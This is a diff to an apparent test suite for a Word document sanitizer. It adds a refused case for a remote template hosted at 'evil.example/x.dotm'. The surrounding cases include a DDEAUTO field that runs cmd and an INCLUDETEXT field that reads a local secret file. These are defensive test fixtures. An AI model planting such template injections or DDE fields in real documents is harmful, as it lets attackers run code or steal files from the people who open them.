@@ -121,6 +121,12 @@ REFUSED = {
         ),
         "“mailMerge”",
     ),
+    "a template on a server": (
+        lambda: changed(
+            *RELATIONS, RELATION.format("attachedTemplate", "https://evil.example/x.dotm", 'TargetMode="External"')
+        ),
+        "“https://evil.example/x.dotm”",
+    ),
     "a program": (lambda: evil_field(' DDEAUTO c:\\\\cmd "/c calc" '), "域“DDEAUTO”"),
     "a field of fields": (lambda: evil_field(""), "域“”"),
     "a file": (lambda: evil_field("INCLUDETEXT c:\\\\secret"), "域“INCLUDETEXT”"),
